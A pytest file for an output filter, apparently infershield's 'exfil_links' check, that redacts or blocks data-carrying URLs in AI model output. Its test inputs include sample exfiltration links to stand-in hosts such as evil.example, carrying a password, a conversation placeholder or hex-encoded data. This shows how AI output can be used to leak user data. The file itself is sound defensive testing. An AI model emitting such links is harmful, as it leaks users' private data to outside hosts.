"""``exfil_links``: URLs that carry data out, or point outside the allowed domains."""

from __future__ import annotations

import pytest

from infershield.checks.base import CheckContext
from infershield.checks.output.exfil_links import ExfilLinksCheck, ExfilLinksOptions
from infershield.errors import ConfigError
from infershield.verdict import Decision

CHECK = ExfilLinksCheck("exfil_links")


def run(text: str, check: ExfilLinksCheck = CHECK) -> tuple[Decision, str]:
    v = check.check(CheckContext(text, stage="output"))
    return v.decision, v.rewritten if v.rewritten is not None else text


@pytest.mark.parametrize(
    ("text", "want"),
    [
        (
            "![x](https://evil.example/log?q=the+user+password+is+hunter2)",
            "![x]([REDACTED:url])",
        ),
        ("![a](https://h.example/i.png?d={conversation})", "![a]([REDACTED:url])"),
        (
            "[click](https://t.example/?" + "a" * 80 + ") now",
            "[click]([REDACTED:url]) now",
        ),
        (
            "see https://4a6f686e20446f6520706173.evil.example/x.",
            "see [REDACTED:url].",
        ),
        (
            "ping https://" + "a" * 40 + ".evil.example/",
            "ping [REDACTED:url]",
        ),
    ],
    ids=["image-query", "placeholder", "long-query", "hex-subdomain", "long-label"],
)
def test_data_carrying_urls_are_redacted(text: str, want: str) -> None:
    assert run(text) == (Decision.REDACT, want)


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://example.com/logo.png?w=200)",
        "Docs: https://docs.python.org/3/library/re.html#module-re",
        "[search](https://example.com/search?q=python+regex)",
        "no links at all",
        "https://github.com/org/repo/commit/0123456789abcdef0123456789abcdef01234567",
    ],
)
def test_ordinary_links_are_allowed(text: str) -> None:
    assert run(text)[0] is Decision.ALLOW


def test_allow_list_and_block_action() -> None:
    check = ExfilLinksCheck(
        "x", ExfilLinksOptions(allowed_domains=("example.com", "*.docs.example.org"),
                               action="block")
    )
    assert run("https://example.com/a and https://sub.example.com/b", check)[0] is Decision.ALLOW
    assert run("https://api.docs.example.org/v1", check)[0] is Decision.ALLOW
    v = check.check(CheckContext("go to https://example.com.evil.net/", stage="output"))
    assert v.blocked and "domain not allowed" in v.reason and "evil" not in v.reason


def test_multibyte_text_keeps_exact_offsets() -> None:
    text = "日本 🙂 ![x](https://e.example/p?q=données_secrètes_ünïcode) fin ✓"
    assert run(text) == (Decision.REDACT, "日本 🙂 ![x]([REDACTED:url]) fin ✓")


def test_bad_options_are_config_errors() -> None:
    with pytest.raises(ConfigError, match=r"allowed_domains\[0\]"):
        ExfilLinksCheck("x", ExfilLinksOptions(allowed_domains=("not a domain",)))
    with pytest.raises(ConfigError, match="max_query_chars"):
        ExfilLinksCheck("x", ExfilLinksOptions(max_query_chars=-1))
